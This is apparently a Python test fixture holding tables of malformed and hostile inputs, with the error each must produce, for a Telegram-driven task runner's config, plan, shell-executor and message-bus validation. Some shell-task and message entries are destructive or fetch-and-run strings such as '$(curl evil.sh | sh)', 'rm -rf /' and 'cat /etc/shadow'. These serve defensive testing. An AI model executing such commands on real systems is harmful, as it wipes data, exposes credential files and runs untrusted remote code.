"""The bad-input corpus: every case has an id, an input and the outcome it must end in.

An outcome is either a clear error (its text, or a distinctive part of it) or,
for bytes on a subject a service consumes, a DLQ record whose ``Valor-Reason``
contains the text.  ``None`` as the expected error means the input is fine and
must go through (controls, and inputs that only look dangerous).

Tables, not code: add a line to add a case.
"""

from __future__ import annotations

import json

# --- valor.toml ------------------------------------------------------------------------

CONFIG = [
    ("not-toml", "[types", "valor.toml: not valid TOML"),
    ("binary-garbage", "\x00\x01\x02", "valor.toml: not valid TOML"),
    ("duplicate-key", "workspace = 'a'\nworkspace = 'b'", "valor.toml: not valid TOML"),
    ("unclosed-string", "workspace = \"var", "valor.toml: not valid TOML"),
    ("types-not-a-table", "types = 3", "valor.toml: types: expected a table"),
    ("types-array-of-tables", "[[types]]\nname = 'x'", "valor.toml: types: expected a table"),
    ("type-not-a-table", "[types]\ncode = 5", "valor.toml: types.code: expected a table"),
    ("type-typo-key", "[types.code]\ntimout = 5", "valor.toml: types.code.timout: unknown key"),
    ("type-timeout-string", "[types.code]\ntimeout = 'soon'", "valor.toml: types.code.timeout: Expected `float | null`, got `str`"),
    ("type-timeout-zero", "[types.code]\ntimeout = 0", "valor.toml: types.code.timeout: must be positive"),
    ("type-timeout-negative", "[types.code]\ntimeout = -1", "valor.toml: types.code.timeout: must be positive"),
    ("type-retries-negative", "[types.x]\nretries = -1", "valor.toml: types.x.handler: unknown handler 'x'"),
    ("type-retries-negative-known", "[types.echo]\nretries = -1", "valor.toml: types.echo.retries: must not be negative"),
    ("type-retries-float", "[types.echo]\nretries = 1.5", "valor.toml: types.echo.retries: Expected `int`, got `float`"),
    ("type-backoff-bool", "[types.echo]\nbackoff = true", "valor.toml: types.echo.backoff: Expected `float`, got `bool`"),
    ("type-unknown-handler", "[types.deploy]\nhandler = 'bash'", "valor.toml: types.deploy.handler: unknown handler 'bash'"),
    ("type-bad-permission-mode", "[types.code]\npermission_mode = 'yolo'", "valor.toml: types.code.permission_mode: 'yolo' is not one of"),
    ("type-concurrency-limit-zero", "[types.code]\nconcurrency_limit = 0", "valor.toml: types.code.concurrency_limit: must be at least 1"),
    ("type-allowed-tools-string", "[types.code]\nallowed_tools = 'Read'", "valor.toml: types.code.allowed_tools: Expected `array | null`, got `str`"),
    ("type-key-unknown-placeholder", "[types.code]\nconcurrency_key = 'repo:{repo}'",
     "valor.toml: types.code.concurrency_key: unknown placeholder {repo}; use {workspace}, {chat_id} or {type}"),
    ("type-key-broken-template", "[types.code]\nconcurrency_key = 'repo:{'",
     "valor.toml: types.code.concurrency_key: not a valid template"),
    ("type-key-positional", "[types.code]\nconcurrency_key = 'repo:{0}'",
     "valor.toml: types.code.concurrency_key: unknown placeholder {0}; use {workspace}, {chat_id} or {type}"),
    ("chat-id-not-integer", "[chats.abc]\nworkspace = 'x'", "valor.toml: chats.abc: chat ids are integers"),
    ("chat-workspace-int", "[chats.\"1\"]\nworkspace = 3", "valor.toml: chats.1.workspace: Expected `str | null`, got `int`"),
    ("chat-typo-key", "[chats.\"1\"]\nwork_grp = true", "valor.toml: chats.1.work_grp: unknown key"),
    ("chats-not-a-table", "chats = []", "valor.toml: chats: expected a table"),
    ("telegram-horizon-zero", "[telegram]\ncatchup_horizon = 0", "valor.toml: telegram.catchup_horizon: must be positive"),
    ("telegram-reconcile-negative", "[telegram]\nreconcile_interval = -5", "valor.toml: telegram.reconcile_interval: must be positive"),
    ("telegram-notice-horizon-zero", "[telegram]\nnotice_horizon = 0", "valor.toml: telegram.notice_horizon: must be positive"),
    ("telegram-edit-negative", "[telegram]\nedit_interval = -1", "valor.toml: telegram.edit_interval: must not be negative"),
    ("telegram-catchup-limit-zero", "[telegram]\ncatchup_limit = 0", "valor.toml: telegram.catchup_limit: must be at least 1"),
    ("telegram-group-rate-zero", "[telegram]\ngroup_per_minute = 0", "valor.toml: telegram.group_per_minute: must be at least 1"),
    ("telegram-dialogs-zero", "[telegram]\ndialogs_limit = 0", "valor.toml: telegram.dialogs_limit: must be at least 1"),
    ("telegram-bad-username", "[telegram]\nallow_users = ['bad name!']", "valor.toml: telegram.allow_users: 'bad name!' is neither a user id nor a username"),
    ("telegram-shell-in-username", "[telegram]\nallow_users = ['$(id)']", "valor.toml: telegram.allow_users: '$(id)' is neither a user id nor a username"),
    ("telegram-user-float", "[telegram]\nallow_users = [1.5]", "valor.toml: telegram.allow_users[0]: Expected `int | str`, got `float`"),
    ("telegram-users-string", "[telegram]\nallow_users = 'alice'", "valor.toml: telegram.allow_users: Expected `array`, got `str`"),
    ("telegram-chats-strings", "[telegram]\nallow_chats = ['x']", "valor.toml: telegram.allow_chats[0]: Expected `int`, got `str`"),
    ("telegram-typo", "[telegram]\nalow_users = [1]", "valor.toml: telegram.alow_users: unknown key"),
    ("shell-allow-with-space", "[shell]\nallow = ['rm -rf']", "valor.toml: shell.allow: 'rm -rf' is not a program name"),
    ("shell-allow-empty-name", "[shell]\nallow = ['']", "valor.toml: shell.allow: '' is not a program name"),
    ("shell-allow-string", "[shell]\nallow = 'echo'", "valor.toml: shell.allow: Expected `array`, got `str`"),
    ("shell-not-a-table", "shell = 'echo'", "valor.toml: shell: Expected `object`, got `str`"),
    ("unknown-section", "[shel]\nallow = ['echo']", "valor.toml: shel: unknown key"),
    ("agent-tokens-string", "[agent]\nmax_tokens = 'many'", "valor.toml: agent.max_tokens: Expected `int`, got `str`"),
    ("workspace-int", "workspace = 5", "valor.toml: workspace: Expected `str`, got `int`"),
    # controls: odd but valid
    ("empty-file", "", None),
    ("only-comments", "# nothing here\n", None),
    ("unicode-workspace", "workspace = 'var/работа ✓'", None),
    ("key-template-ok", "[types.code]\nconcurrency_key = 'ws:{workspace}:{chat_id}:{type}'", None),
]

# --- plans (cmd.submit / cmd.plan, and the promises of a respond result) ------------------
# Existing promises in the projection: #1 succeeded, #2 failed, #3 cancelled, #4 running.


def chain(n: int, cycle: bool = False) -> list[dict]:
    tasks = [{"name": f"t{i}", "type": "noop", "after": [f"t{i - 1}"] if i else []} for i in range(n)]
    if cycle:
        tasks[0]["after"] = [f"t{n - 1}"]
    return tasks


PLANS = [
    ("empty-plan", [], "the plan has no tasks"),
    ("two-cycle", [{"name": "a", "after": ["b"]}, {"name": "b", "after": ["a"]}], "the plan has a cycle: a -> b -> a"),
    ("three-cycle", [{"name": "a", "after": ["c"]}, {"name": "b", "after": ["a"]}, {"name": "c", "after": ["b"]}],
     "the plan has a cycle: a -> c -> b -> a"),
    ("self-cycle", [{"name": "a", "after": ["a"]}], "task 'a' is after itself"),
    ("cycle-behind-valid-tasks", [{"name": "ok"}, {"name": "x", "after": ["ok", "y"]}, {"name": "y", "after": ["x"]}],
     "the plan has a cycle: x -> y -> x"),
    ("deep-cycle-2000", chain(2000, cycle=True), "the plan has a cycle: t0 -> t1999 -> t1998"),
    ("deep-chain-2000", chain(2000), None),
    ("after-unknown-name", [{"name": "a"}, {"name": "b", "after": ["zz"]}], "task 'b' is after unknown task 'zz'"),
    ("after-unnamed-index", [{"name": "a", "after": ["#1"]}], "task 'a' is after unknown task '#1'"),
    ("depends-on-unknown", [{"depends_on": [999]}], "task '#1' depends on unknown promise #999"),
    ("depends-on-zero", [{"depends_on": [0]}], "task '#1' depends on unknown promise #0"),
    ("depends-on-negative", [{"depends_on": [-4]}], "task '#1' depends on unknown promise #-4"),
    ("depends-on-failed", [{"name": "x", "depends_on": [2]}], "task 'x' depends on #2, which failed"),
    ("depends-on-cancelled", [{"name": "x", "depends_on": [3]}], "task 'x' depends on #3, which was cancelled"),
    ("depends-on-mixed", [{"depends_on": [1, 3]}], "task '#1' depends on #3, which was cancelled"),
    ("depends-on-running", [{"depends_on": [4]}], None),
    ("depends-on-succeeded", [{"depends_on": [1]}], None),
    ("unknown-type", [{"type": "rocket"}], "task '#1' has unknown type 'rocket'"),
    ("empty-type", [{"type": ""}], "task '#1' has unknown type ''"),
    ("shell-metachar-type", [{"type": "echo; rm -rf /"}], "task '#1' has unknown type 'echo; rm -rf /'"),
    ("priority-zero", [{"priority": 0}], "task '#1' has priority 0; use 1 (highest) to 9"),
    ("priority-ten", [{"priority": 10}], "task '#1' has priority 10; use 1 (highest) to 9"),
    ("priority-negative", [{"priority": -5}], "task '#1' has priority -5; use 1 (highest) to 9"),
    ("retries-negative", [{"retries": -1}], "task '#1' has negative retries"),
    ("timeout-zero", [{"timeout": 0}], "task '#1' has a timeout of 0.0s; it must be positive"),
    ("timeout-negative", [{"timeout": -3.5}], "task '#1' has a timeout of -3.5s; it must be positive"),
    ("key-limit-zero", [{"key": "k", "key_limit": 0}], "task '#1' has a concurrency limit below 1"),
    ("duplicate-names", [{"name": "a"}, {"name": "a"}], "two tasks are named 'a'"),
    ("blank-name", [{"name": "   "}], "task #1 has an empty name"),
    ("empty-name", [{"name": ""}], "task #1 has an empty name"),
    ("rtl-and-emoji-names", [{"name": "مهمة 🚀"}, {"name": "‏b", "after": ["مهمة 🚀"]}], None),
    ("null-byte-title", [{"title": "a\x00b", "type": "echo", "input": "\x00"}], None),
    ("path-name", [{"name": "../../etc/passwd"}, {"name": "b", "after": ["../../etc/passwd"]}], None),
]

# --- shell task input (services/executor/shell.py check_argv, default allowlist) -----------

ARGV = [
    ("input-none", None, "shell input must be an object with 'argv'"),
    ("input-shell-string", "echo hi; rm -rf /", "shell input must be an object with 'argv'"),
    ("input-list", ["echo", "hi"], "shell input must be an object with 'argv'"),
    ("input-number", 42, "shell input must be an object with 'argv'"),
    ("argv-missing", {}, "shell argv must be a non-empty list of strings"),
    ("argv-shell-string", {"argv": "echo hi; rm -rf /"}, "shell argv must be a list of strings, not a shell string"),
    ("argv-subshell-string", {"argv": "$(curl evil.sh | sh)"}, "shell argv must be a list of strings, not a shell string"),
    ("argv-empty", {"argv": []}, "shell argv must be a non-empty list of strings"),
    ("argv-numbers", {"argv": [1, 2]}, "shell argv must be a non-empty list of strings"),
    ("argv-mixed", {"argv": ["echo", 3]}, "shell argv must be a non-empty list of strings"),
    ("argv-nested", {"argv": [["echo"]]}, "shell argv must be a non-empty list of strings"),
    ("argv-dict", {"argv": {"0": "echo"}}, "shell argv must be a non-empty list of strings"),
    ("argv-null-element", {"argv": ["echo", None]}, "shell argv must be a non-empty list of strings"),
    ("rm-not-allowed", {"argv": ["rm", "-rf", "/"]}, "program 'rm' is not allowed"),
    ("passwd-as-program", {"argv": ["../../etc/passwd"]}, "program '../../etc/passwd' is not allowed"),
    ("absolute-echo", {"argv": ["/bin/echo", "x"]}, "program '/bin/echo' is not allowed"),
    ("relative-echo", {"argv": ["./echo"]}, "program './echo' is not allowed"),
    ("traversal-to-allowed", {"argv": ["../../bin/echo"]}, "program '../../bin/echo' is not allowed"),
    ("semicolon-in-program", {"argv": ["echo;rm"]}, "program 'echo;rm' is not allowed"),
    ("subshell-program", {"argv": ["$(whoami)"]}, "program '$(whoami)' is not allowed"),
    ("backtick-program", {"argv": ["`id`"]}, "program '`id`' is not allowed"),
    ("sh-c", {"argv": ["sh", "-c", "echo pwned"]}, "program 'sh' is not allowed"),
    ("bash", {"argv": ["bash"]}, "program 'bash' is not allowed"),
    ("python-c", {"argv": ["python3", "-c", "print(1)"]}, "program 'python3' is not allowed"),
    ("env-wrapper", {"argv": ["env", "rm", "-rf", "/"]}, "program 'env' is not allowed"),
    ("upper-case", {"argv": ["ECHO"]}, "program 'ECHO' is not allowed"),
    ("leading-space", {"argv": [" echo"]}, "program ' echo' is not allowed"),
    ("trailing-newline", {"argv": ["echo\n"]}, "program 'echo\n' is not allowed"),
    ("null-in-program", {"argv": ["echo\x00rm"]}, "shell argv must not contain NUL bytes"),
    ("null-in-argument", {"argv": ["echo", "a\x00b"]}, "shell argv must not contain NUL bytes"),
    ("cwd-number", {"argv": ["ls"], "cwd": 5}, "shell cwd must be a string"),
    ("cwd-list", {"argv": ["ls"], "cwd": ["/"]}, "shell cwd must be a string"),
    ("cwd-null-byte", {"argv": ["ls"], "cwd": "/tmp\x00/x"}, "shell cwd must not contain NUL bytes"),
    # allowed: metacharacters are plain argument text, never interpreted by a shell
    ("semicolon-argument", {"argv": ["echo", "; rm -rf /"]}, None),
    ("subshell-argument", {"argv": ["echo", "$(whoami)"]}, None),
    ("backtick-argument", {"argv": ["echo", "`id`"]}, None),
    ("pipe-argument", {"argv": ["echo", "a | cat /etc/shadow"]}, None),
    ("glob-argument", {"argv": ["echo", "*"]}, None),
    ("passwd-argument", {"argv": ["echo", "../../etc/passwd"]}, None),
    ("cwd-escape-string", {"argv": ["ls"], "cwd": "../../etc/passwd"}, None),  # checked when started: see SHELL_RUNS
]

# Shell tasks run by the real executor: (id, input, ("succeeded", stdout) or ("failed", error text)).
SHELL_RUNS = [
    ("run-semicolon-is-literal", {"argv": ["echo", "a; echo pwned"]}, ("succeeded", "a; echo pwned\n")),
    ("run-subshell-is-literal", {"argv": ["echo", "$(whoami)"]}, ("succeeded", "$(whoami)\n")),
    ("run-backticks-are-literal", {"argv": ["echo", "`id`"]}, ("succeeded", "`id`\n")),
    ("run-glob-is-literal", {"argv": ["echo", "*"]}, ("succeeded", "*\n")),
    ("run-variable-is-literal", {"argv": ["echo", "$HOME"]}, ("succeeded", "$HOME\n")),
    ("run-rtl-emoji-argument", {"argv": ["echo", "שלום 👋"]}, ("succeeded", "שלום 👋\n")),
    ("run-cwd-is-a-file", {"argv": ["ls"], "cwd": "/etc/passwd"}, ("failed", "cannot start 'ls': Not a directory")),
    ("run-cwd-escape-missing", {"argv": ["ls"], "cwd": "../../../../../../no/such/dir"},
     ("failed", "cannot start 'ls': No such file or directory")),
    ("run-rm-refused", {"argv": ["rm", "-rf", "/"]}, ("failed", "program 'rm' is not allowed")),
    ("run-passwd-program-refused", {"argv": ["../../etc/passwd"]}, ("failed", "program '../../etc/passwd' is not allowed")),
    ("run-string-argv-refused", {"argv": "echo hi && rm -rf /"}, ("failed", "shell argv must be a list of strings, not a shell string")),
    ("run-string-input-refused", "ls; cat /etc/shadow", ("failed", "shell input must be an object with 'argv'")),
    ("run-null-byte-refused", {"argv": ["echo", "a\x00b"]}, ("failed", "shell argv must not contain NUL bytes")),
    ("run-nonzero-exit", {"argv": ["ls", "/no/such/path/for/valor"]}, ("failed", "exit code 2")),
]

# --- Telegram messages through accept() (and ingest, live) ---------------------------------
# (id, who: "alice" | "stranger" | "group" | "group-mention", text, media, expected)
# expected: ("accepted", text stored) or ("refused", reason)

BIG = "я" * 50_000  # 100 KB of UTF-8
TELEGRAM = [
    ("rtl-hebrew", "alice", "שלום, תריץ את הבדיקות", None, ("accepted", "שלום, תריץ את הבדיקות")),
    ("rtl-arabic-mixed", "alice", "مرحبا run tests ‏please‎", None, ("accepted", "مرحبا run tests ‏please‎")),
    ("rtl-override-char", "alice", "evil\u202egnp.exe", None, ("accepted", "evil\u202egnp.exe")),
    ("emoji-only", "alice", "🔥🔥🔥", None, ("accepted", "🔥🔥🔥")),
    ("emoji-zwj-family", "alice", "👨‍👩‍👧‍👦 ok", None, ("accepted", "👨‍👩‍👧‍👦 ok")),
    ("null-bytes", "alice", "a\x00b\x00c", None, ("accepted", "a\x00b\x00c")),
    ("control-chars", "alice", "bell\x07 esc\x1b[31m red", None, ("accepted", "bell\x07 esc\x1b[31m red")),
    ("lone-surrogate-free-cjk", "alice", "你好世界" * 100, None, ("accepted", "你好世界" * 100)),
    ("zero-width", "alice", "\u200b\u200c\u200d", None, ("accepted", "\u200b\u200c\u200d")),
    ("whitespace-only", "alice", "   \n\t ", None, ("accepted", "   \n\t ")),
    ("giant-100kb", "alice", BIG, None, ("accepted", BIG)),
    ("shell-text", "alice", "/do $(rm -rf /); `id`", None, ("accepted", "/do $(rm -rf /); `id`")),
    ("json-text", "alice", '{"type":"created","id":1}', None, ("accepted", '{"type":"created","id":1}')),
    ("photo-no-text", "alice", "", "photo", ("accepted", "[photo]")),
    ("photo-caption", "alice", "look", "photo", ("accepted", "[photo] look")),
    ("document-no-text", "alice", "", "document", ("accepted", "[file]")),
    ("geo-no-text", "alice", "", "geo", ("accepted", "[location]")),
    ("contact-no-text", "alice", "", "contact", ("accepted", "[contact]")),
    ("dice-no-text", "alice", "", "dice", ("accepted", "[dice]")),
    ("unsupported-media", "alice", "", "unsupported", ("accepted", "[media]")),
    ("empty-text", "alice", "", None, ("refused", "empty message")),
    ("stranger-shell", "stranger", "/do rm -rf /", None, ("refused", "sender 666 not allowed")),
    ("stranger-photo", "stranger", "", "photo", ("refused", "sender 666 not allowed")),
    ("stranger-giant", "stranger", BIG, None, ("refused", "sender 666 not allowed")),
    ("group-unmentioned", "group", "run it", None, ("refused", "not mentioned")),
    ("group-mentioned-rtl", "group-mention", "@valor שלום", None, ("accepted", "@valor שלום")),
]

# Too big for one NATS message once JSON-escaped: stored cut down, never stalling ingest.
OVERSIZED_TELEGRAM = [
    ("text-2mb", "x" * 2_000_000),
    ("null-bytes-300k", "\x00" * 300_000),  # 6 bytes each once JSON-escaped
]

# --- raw bytes on the subjects the services consume ------------------------------------------
# (id, kind, payload, reason text expected in the DLQ record)
# kind: chat (chat.<id>.in, scheduler), cmd (cmd.submit, scheduler), work (work.<queue>, executor),
#       promise (promise.<id>.<event>, scheduler's tail)


def _j(obj) -> bytes:
    return json.dumps(obj).encode()


GARBAGE = [
    ("empty", b"", "Input data was truncated"),
    ("text", b"not json", "JSON is malformed: invalid character (byte 4)"),
    ("truncated-object", b'{"type":', "Input data was truncated"),
    ("array", b"[]", "Expected `object`, got `array`"),
    ("null", b"null", "Expected `object`, got `null`"),
    ("number", b"42", "Expected `object`, got `int`"),
    ("string", b'"hello"', "Expected `object`, got `str`"),
    ("invalid-utf8", b"\xff\xfe\xfd", "JSON is malformed: invalid character (byte 0)"),
    ("deep-nesting", b"[" * 100_000, "Expected `object`, got `array`"),
    ("binary-zeros", b"\x00" * 64, "JSON is malformed: invalid character (byte 0)"),
]

BUS = []
for _kind in ("chat", "cmd", "work", "promise"):
    BUS += [(f"{_kind}-{gid}", _kind, payload, reason) for gid, payload, reason in GARBAGE]

BUS += [
    # chat.<id>.in
    ("chat-missing-ids", "chat", _j({"type": "message.received"}), "Object missing required field `chat_id`"),
    ("chat-id-string", "chat", _j({"type": "message.received", "chat_id": "abc", "message_id": 1}),
     "Expected `int`, got `str` - at `$.chat_id`"),
    ("chat-message-id-float", "chat", _j({"type": "message.received", "chat_id": 1, "message_id": 1.5}),
     "Expected `int`, got `float` - at `$.message_id`"),
    ("chat-message-id-bool", "chat", _j({"type": "message.received", "chat_id": 1, "message_id": True}),
     "Expected `int`, got `bool` - at `$.message_id`"),
    ("chat-text-number", "chat", _j({"type": "message.received", "chat_id": 1, "message_id": 2, "text": 5}),
     "Expected `str`, got `int` - at `$.text`"),
    ("chat-wrong-event-type", "chat", _j({"type": "created", "chat_id": 1, "message_id": 2}),
     "Invalid value 'created' - at `$.type`"),
    ("chat-unknown-event-type", "chat", _j({"type": "message.pinned", "chat_id": 1, "message_id": 2}),
     "Invalid value 'message.pinned' - at `$.type`"),
    ("chat-at-overflow", "chat", b'{"type":"message.received","chat_id":1,"message_id":3,"at":1e400}',
     "Number out of range - at `$.at`"),
    ("chat-mentioned-string", "chat", _j({"type": "message.received", "chat_id": 1, "message_id": 4, "mentioned": "yes"}),
     "Expected `bool`, got `str` - at `$.mentioned`"),
    ("chat-reply-to-list", "chat", _j({"type": "message.received", "chat_id": 1, "message_id": 5, "reply_to": [1]}),
     "Expected `int | null`, got `array` - at `$.reply_to`"),
    # cmd.*
    ("cmd-unknown-verb", "cmd", _j({"type": "explode", "request_id": "x"}), "Invalid value 'explode' - at `$.type`"),
    ("cmd-no-type", "cmd", _j({"request_id": "x", "tasks": []}), "Object missing required field `type`"),
    ("cmd-no-request-id", "cmd", _j({"type": "submit", "tasks": []}), "Object missing required field `request_id`"),
    ("cmd-tasks-string", "cmd", _j({"type": "submit", "request_id": "x", "tasks": "echo hi"}),
     "Expected `array`, got `str` - at `$.tasks`"),
    ("cmd-task-type-number", "cmd", _j({"type": "submit", "request_id": "x", "tasks": [{"type": 5}]}),
     "Expected `str`, got `int` - at `$.tasks[0].type`"),
    ("cmd-priority-string", "cmd", _j({"type": "submit", "request_id": "x", "tasks": [{"priority": "high"}]}),
     "Expected `int`, got `str` - at `$.tasks[0].priority`"),
    ("cmd-after-string", "cmd", _j({"type": "submit", "request_id": "x", "tasks": [{"after": "a"}]}),
     "Expected `array`, got `str` - at `$.tasks[0].after`"),
    ("cmd-depends-on-strings", "cmd", _j({"type": "submit", "request_id": "x", "tasks": [{"depends_on": ["#1"]}]}),
     "Expected `int`, got `str` - at `$.tasks[0].depends_on[0]`"),
    ("cmd-cancel-no-id", "cmd", _j({"type": "cancel", "request_id": "x"}), "Object missing required field `id`"),
    ("cmd-cancel-id-string", "cmd", _j({"type": "cancel", "request_id": "x", "id": "12"}),
     "Expected `int`, got `str` - at `$.id`"),
    ("cmd-retry-id-float", "cmd", _j({"type": "retry", "request_id": "x", "id": 1.5}),
     "Expected `int`, got `float` - at `$.id`"),
    ("cmd-delay-overflow", "cmd", b'{"type":"submit","request_id":"x","tasks":[{"delay":1e400}]}',
     "Number out of range - at `$.tasks[0].delay`"),
    # work.<queue>
    ("work-missing-fields", "work", _j({"id": 1}), "Object missing required field `attempt`"),
    ("work-id-string", "work", _j({"id": "1", "attempt": 1, "task": "echo"}), "Expected `int`, got `str` - at `$.id`"),
    ("work-attempt-null", "work", _j({"id": 1, "attempt": None, "task": "echo"}), "Expected `int`, got `null` - at `$.attempt`"),
    ("work-task-list", "work", _j({"id": 1, "attempt": 1, "task": ["echo"]}), "Expected `str`, got `array` - at `$.task`"),
    ("work-deps-list", "work", _j({"id": 1, "attempt": 1, "task": "echo", "deps": [1]}), "Expected `object`, got `array` - at `$.deps`"),
    ("work-timeout-string", "work", _j({"id": 1, "attempt": 1, "task": "echo", "timeout": "1m"}),
     "Expected `float | null`, got `str` - at `$.timeout`"),
    # promise.<id>.<event>
    ("promise-unknown-type", "promise", _j({"type": "exploded", "id": 1}), "Invalid value 'exploded' - at `$.type`"),
    ("promise-no-type", "promise", _j({"id": 1, "attempt": 1}), "Object missing required field `type`"),
    ("promise-attempt-string", "promise", _j({"type": "succeeded", "id": 1, "attempt": "x"}),
     "Expected `int`, got `str` - at `$.attempt`"),
    ("promise-created-no-title", "promise", _j({"type": "created", "id": 1}), "Object missing required field `title`"),
    ("promise-id-string", "promise", _j({"type": "cancelled", "id": "1", "reason": "x"}), "Expected `int`, got `str` - at `$.id`"),
    ("promise-depends-on-string", "promise", _j({"type": "created", "id": 1, "title": "t", "depends_on": "2"}),
     "Expected `array`, got `str` - at `$.depends_on`"),
    ("promise-children-list", "promise", _j({"type": "spawned", "id": 1, "children": [1]}),
     "Expected `object`, got `array` - at `$.children`"),
    ("promise-retryable-string", "promise", _j({"type": "attempt_failed", "id": 1, "attempt": 1, "retryable": "no"}),
     "Expected `bool`, got `str` - at `$.retryable`"),
]

# Near the stream's limit (NATS max_payload, 1 MiB by default): stored, then dead-lettered with
# the reason although the DLQ record's headers would not fit beside the whole payload.
NEAR_LIMIT = [
    ("chat-near-limit", "chat", "undecodable message: JSON is malformed"),
    ("cmd-near-limit", "cmd", "undecodable command: JSON is malformed"),
    ("work-near-limit", "work", "undecodable work item: JSON is malformed"),
    ("promise-near-limit", "promise", "undecodable event: JSON is malformed"),
]

REASON_PREFIX = {
    "chat": "undecodable message: ",
    "cmd": "undecodable command: ",
    "work": "undecodable work item: ",
    "promise": "undecodable event: ",
}
